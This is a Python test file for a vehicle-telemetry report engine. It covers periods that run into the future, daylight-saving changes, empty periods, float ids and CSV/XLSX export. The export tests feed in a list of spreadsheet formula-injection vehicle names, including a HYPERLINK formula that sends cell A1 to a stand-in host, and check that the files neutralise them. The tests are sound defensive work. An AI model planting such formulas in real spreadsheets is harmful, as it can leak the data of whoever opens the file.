"""What the embedded engine's rows hold, as a real process makes them.

Periods that end in the future, daylight-saving changes (raw data is read
in UTC), periods that hold no time, ids written as floats, and text from
the gateway that must never become a spreadsheet formula. The gateway is
the recording gateway of tests/support/engine_gateway.py, scripted per
job token; the engine runs as `python -m app engine`.
"""

import datetime as dt
import time
import zipfile
from pathlib import Path
from typing import Any

import httpx
import openpyxl
import pytest
from support.engine_gateway import (
    PERIOD,
    SITE_ID,
    RecordingGateway,
    post_job,
    rows_of_csv,
    wall,
)

# ---- periods: the future, daylight saving, empty ones ----------------------


def json_rows(engine: str, job_id: int, script: str) -> list[dict[str, Any]]:
    answer = httpx.get(f"{engine}/jobs/{SITE_ID}/{job_id}/{script}.json", timeout=10)
    assert answer.status_code == 200, answer.text
    rows: list[dict[str, Any]] = answer.json()["rows"]
    return rows


def test_a_period_ending_tomorrow_counts_no_time_after_the_job_started(
    engine: str, gateway: RecordingGateway
) -> None:
    now = dt.datetime.now(dt.UTC).replace(microsecond=0)
    token = "tok-until-tomorrow"
    # Vehicle 1 drove from 84 minutes ago, and has idled for the last hour.
    gateway.script(
        token,
        events={
            1: [
                {"event_time": now - dt.timedelta(minutes=84), "io_ign": True,
                 "kph": 30, "dev_dist": 0, "lat": 10.0, "lon": -70.0},
                {"event_time": now - dt.timedelta(minutes=60), "io_ign": True,
                 "kph": 0, "dev_dist": 5000, "lat": 10.1, "lon": -70.1},
            ]
        },
    )  # fmt: skip
    tomorrow = (now + dt.timedelta(days=1)).date()
    period = {"from": wall(now - dt.timedelta(days=1)), "to": f"{tomorrow}T23:59:59"}
    parameters = {**period, "vehicles": [1]}

    idling_id, _, _ = post_job(engine, gateway, "idling", parameters, token=token)
    trips_id, _, _ = post_job(engine, gateway, "trips", parameters, token=token)
    assert gateway.wait_for_end(idling_id)["state"] == "done"
    assert gateway.wait_for_end(trips_id)["state"] == "done"
    # Each job started between `now` and this moment; nothing after counts.
    slack = time.time() - now.timestamp() + 1

    (idle,) = json_rows(engine, idling_id, "idling")
    assert 3600 <= idle["idleTime"] <= 3600 + slack
    assert idle["idle_count"] == 1
    assert (idle["from"], idle["to"]) == (period["from"], period["to"])
    (trip,) = json_rows(engine, trips_id, "trips")
    assert trip["start"] == wall(now - dt.timedelta(minutes=84))
    assert 84 * 60 <= trip["duration"] <= 84 * 60 + slack
    assert wall(now) <= trip["end"] <= wall(now + dt.timedelta(seconds=slack))
    asked = [q for path, q in gateway.requests_with(token) if path == "/api/rawdata"]
    assert all(q["to"] <= wall(now + dt.timedelta(seconds=slack)) for q in asked)


def utc(month: int, day: int, hour: int, minute: int) -> dt.datetime:
    return dt.datetime(2026, month, day, hour, minute, tzinfo=dt.UTC)


def state(moment: dt.datetime, ign: bool, kph: float, dist: float) -> dict[str, Any]:
    return {"event_time": moment, "io_ign": ign, "kph": kph, "dev_dist": dist}


# New York, 2026-11-01: 02:00 EDT becomes 01:00 EST at 06:00 UTC, so wall
# times from 01:00 to 02:00 happen twice. Worked out in UTC over 00:00-03:00
# (04:00-08:00 UTC): ignition on 05:30-06:50 (4800 s), idle 05:50-06:10
# (1200 s, 25 %), one trip.
FALL_BACK = [
    state(utc(11, 1, 4, 0), False, 0, 0),  # 00:00 EDT
    state(utc(11, 1, 5, 30), True, 40, 0),  # 01:30 EDT
    state(utc(11, 1, 5, 50), True, 0, 9000),  # 01:50 EDT
    state(utc(11, 1, 6, 10), True, 30, 9000),  # 01:10 EST, the second 01:10
    state(utc(11, 1, 6, 50), False, 0, 12000),  # 01:50 EST
]
# New York, 2026-03-08: 02:00 EST becomes 03:00 EDT at 07:00 UTC. Over
# 00:00-04:00 (05:00-08:00 UTC): ignition on 05:00-07:30 (9000 s), idle
# 05:00-06:30 (5400 s, 60 %), one trip.
SPRING_FORWARD = [
    state(utc(3, 8, 5, 0), True, 0, 0),  # 00:00 EST
    state(utc(3, 8, 6, 30), True, 20, 0),  # 01:30 EST
    state(utc(3, 8, 7, 30), False, 0, 4000),  # 03:30 EDT
]


@pytest.mark.parametrize(
    ("events", "period", "utc_period", "idling", "trip"),
    [
        (FALL_BACK, ("2026-11-01T00:00:00", "2026-11-01T03:00:00"),
         ("2026-11-01T04:00:00", "2026-11-01T08:00:00"),
         (1200, 1, 25), ("2026-11-01T01:30:00", "2026-11-01T01:50:00", 4800)),
        (SPRING_FORWARD, ("2026-03-08T00:00:00", "2026-03-08T04:00:00"),
         ("2026-03-08T05:00:00", "2026-03-08T08:00:00"),
         (5400, 1, 60), ("2026-03-08T00:00:00", "2026-03-08T03:30:00", 9000)),
    ],
    ids=["fall-back", "spring-forward"],
)  # fmt: skip
def test_raw_data_is_read_in_utc_across_a_daylight_saving_change(
    engine: str,
    gateway: RecordingGateway,
    events: list[dict[str, Any]],
    period: tuple[str, str],
    utc_period: tuple[str, str],
    idling: tuple[int, int, int],
    trip: tuple[str, str, int],
) -> None:
    token = f"tok-dst-{period[0]}"
    gateway.script(token, events={1: events})
    parameters = {"from": period[0], "to": period[1], "vehicles": [1]}
    parameters["tz"] = "America/New_York"

    idling_id, _, _ = post_job(engine, gateway, "idling", parameters, token=token)
    trips_id, _, _ = post_job(engine, gateway, "trips", parameters, token=token)
    assert gateway.wait_for_end(idling_id)["state"] == "done"
    assert gateway.wait_for_end(trips_id)["state"] == "done"

    (row,) = json_rows(engine, idling_id, "idling")
    assert (row["idleTime"], row["idle_count"], row["percent_idle"]) == idling
    assert (row["from"], row["to"]) == period
    (found,) = json_rows(engine, trips_id, "trips")
    # Rows show New York wall times; durations are real elapsed seconds.
    assert (found["start"], found["end"], found["duration"]) == trip
    asked = [q for path, q in gateway.requests_with(token) if path == "/api/rawdata"]
    assert {(q["from"], q["to"], q["tz"]) for q in asked} == {(*utc_period, "UTC")}


@pytest.mark.parametrize(
    ("period", "tz"),
    [
        # 02:30 does not exist that day in New York: it reads as 03:30 EDT.
        ({"from": "2026-03-08T02:30:00", "to": "2026-03-08T03:00:00"},
         "America/New_York"),
        ({"from": "2024-01-01T02:00:00-05:00", "to": "2024-01-01T03:00:00+00:00"},
         "UTC"),
        ({"from": "2024-01-01T02:00:00", "to": "2024-01-01T02:00:00"}, "UTC"),
    ],
    ids=["spring-forward-gap", "offsets", "same-moment"],
)  # fmt: skip
def test_a_period_holding_no_time_ends_the_job_in_error(
    engine: str, gateway: RecordingGateway, period: dict[str, str], tz: str
) -> None:
    job_id, token, _ = post_job(
        engine, gateway, "idling", {**period, "tz": tz, "vehicles": [1]}
    )

    final = gateway.wait_for_end(job_id)

    assert final["state"] == "error"
    ours = (
        f"the period is empty: from {period['from']} is not before "
        f"to {period['to']} ({tz})"
    )
    # app.validation already refuses wall times out of order; only moments
    # out of order (the gap) reach the engine's own check.
    theirs = "parameter 'to' must be after the start (from)"
    expected = ours if tz != "UTC" else theirs
    assert final["result"]["error"] == expected
    assert gateway.requests_with(token) == []


@pytest.mark.parametrize("script", ["idling", "trips"])
def test_a_period_that_has_not_begun_ends_the_job_in_error(
    engine: str, gateway: RecordingGateway, script: str
) -> None:
    tomorrow = dt.datetime.now(dt.UTC).date() + dt.timedelta(days=1)
    period = {"from": f"{tomorrow}T00:00:00", "to": f"{tomorrow}T23:59:59"}
    job_id, token, _ = post_job(
        engine, gateway, script, {**period, "tz": "UTC", "vehicles": [1]}
    )

    final = gateway.wait_for_end(job_id)

    assert final["state"] == "error"
    assert final["result"]["error"] == (
        f"the period starts at {period['from']} (UTC), after the report was "
        "started: nothing has happened in it yet"
    )
    assert gateway.requests_with(token) == []


def test_a_period_longer_than_a_year_ends_the_job_before_any_request(
    engine: str, gateway: RecordingGateway
) -> None:
    period = {"from": "2020-01-01T00:00:00", "to": "2026-01-01T00:00:00"}
    job_id, token, _ = post_job(
        engine, gateway, "idling", {**period, "tz": "UTC", "vehicles": [1]}
    )

    final = gateway.wait_for_end(job_id)

    assert final["state"] == "error"
    assert final["result"]["error"] == (
        "the period from 2020-01-01T00:00:00 to 2026-01-01T00:00:00 is longer "
        "than 366 days; run the report on shorter periods"
    )
    assert gateway.requests_with(token) == []


# ---- ids ------------------------------------------------------------------


def test_whole_numbers_written_with_a_decimal_point_are_ids(
    engine: str, gateway: RecordingGateway
) -> None:
    def vids(parameters: dict[str, Any]) -> list[int]:
        job_id, _, _ = post_job(engine, gateway, "idling", {**PERIOD, **parameters})
        assert gateway.wait_for_end(job_id)["state"] == "done"
        return [row["vid"] for row in json_rows(engine, job_id, "idling")]

    assert vids({"vehicles": [2.0]}) == [2]
    assert vids({"groups": [10.0]}) == [1, 2]
    assert vids({"vehicles": [3.0], "groups": [10]}) == [1, 2, 3]


def test_an_id_that_is_not_a_whole_number_is_named(
    engine: str, gateway: RecordingGateway
) -> None:
    job_id, token, _ = post_job(engine, gateway, "idling", {**PERIOD, "groups": [1.5]})

    final = gateway.wait_for_end(job_id)

    assert final["state"] == "error"
    assert "parameter 'groups/0'" in final["result"]["error"]
    assert gateway.requests_with(token) == []


# ---- text from the gateway in the files ------------------------------------

FORMULA_NAMES = [
    '=HYPERLINK("http://x"&A1,"Van 1")',
    "+1 Van",
    "-Van",
    "@SUM(A1)",
    "\tTab Van",
    "\rReturn Van",
]


def test_text_from_the_gateway_never_becomes_a_formula(
    engine: str, gateway: RecordingGateway, tmp_path: Path
) -> None:
    names = [*FORMULA_NAMES, "Plain Van"]
    token = "tok-formulas"
    gateway.script(
        token,
        vehicles=[{"id": n, "name": name} for n, name in enumerate(names, start=1)],
        events={
            1: [
                state(utc(1, 5, 8, 0), True, 30, 0) | {"lat": 10.0, "lon": -70.5},
                state(utc(1, 5, 8, 30), False, 0, 5000) | {"lat": 10.1, "lon": -70.6},
            ]
        },
    )
    period = {"from": "2026-01-05T00:00:00", "to": "2026-01-06T00:00:00"}
    formats = ["csv", "xlsx"]
    idling_id, _, _ = post_job(
        engine, gateway, "idling", {**period, "formats": formats}, token=token
    )
    trips_id, _, _ = post_job(
        engine, gateway, "trips", {**period, "formats": formats}, token=token
    )
    assert gateway.wait_for_end(idling_id)["state"] == "done"
    assert gateway.wait_for_end(trips_id)["state"] == "done"

    def fetch(job_id: int, name: str) -> bytes:
        answer = httpx.get(f"{engine}/jobs/{SITE_ID}/{job_id}/{name}", timeout=10)
        assert answer.status_code == 200
        return answer.content

    idling_csv = rows_of_csv(fetch(idling_id, "idling.csv").decode())
    assert [row["name"] for row in idling_csv] == [
        *("'" + name for name in FORMULA_NAMES),
        "Plain Van",
    ]
    (trip,) = rows_of_csv(fetch(trips_id, "trips.csv").decode())
    assert (trip["name"], trip["start_lon"], trip["end_lon"]) == (
        "'" + FORMULA_NAMES[0],
        "-70.5",  # numbers stay numbers
        "-70.6",
    )

    for job_id, script in ((idling_id, "idling"), (trips_id, "trips")):
        path = tmp_path / f"{script}.xlsx"
        path.write_bytes(fetch(job_id, f"{script}.xlsx"))
        with zipfile.ZipFile(path) as book:
            sheet_xml = book.read("xl/worksheets/sheet1.xml")
        assert b"<f>" not in sheet_xml  # no formula anywhere in the sheet

        sheet = openpyxl.load_workbook(path).active
        names_column = [cell for (cell,) in sheet.iter_rows(min_row=2, min_col=2,
                                                             max_col=2)]  # fmt: skip
        assert all(cell.data_type == "s" for cell in names_column)
        # XML reads a carriage return back as a line feed.
        shown = [name.replace("\r", "\n") for name in names]
        assert [cell.value for cell in names_column] == (
            shown if script == "idling" else shown[:1]
        )
    assert sheet["I2"].value == -70.5  # trips' start_lon, a number


def test_a_vehicle_name_no_spreadsheet_can_hold_still_gives_every_file(
    engine: str, gateway: RecordingGateway, tmp_path: Path
) -> None:
    # One control character in one name once failed the whole job.
    token = "tok-control-name"
    gateway.script(
        token,
        vehicles=[{"id": 1, "name": "Van \u0001 =1"}, {"id": 2, "name": "\uff1d1+1"}],
        events={},
    )
    period = {"from": "2026-01-05T00:00:00", "to": "2026-01-06T00:00:00"}
    job_id, _, _ = post_job(
        engine, gateway, "idling", {**period, "formats": ["json", "csv", "xlsx"]},
        token=token,
    )  # fmt: skip

    end = gateway.wait_for_end(job_id)

    assert end["state"] == "done", end
    assert end["result"]["files"] == ["idling.json", "idling.csv", "idling.xlsx"]
    answer = httpx.get(f"{engine}/jobs/{SITE_ID}/{job_id}/idling.xlsx", timeout=10)
    (tmp_path / "idling.xlsx").write_bytes(answer.content)
    sheet = openpyxl.load_workbook(tmp_path / "idling.xlsx").active
    names = [cell for (cell,) in sheet.iter_rows(min_row=2, min_col=2, max_col=2)]
    assert [cell.value for cell in names] == ["Van  =1", "\uff1d1+1"]
    assert [cell.quotePrefix for cell in names] == [False, True]
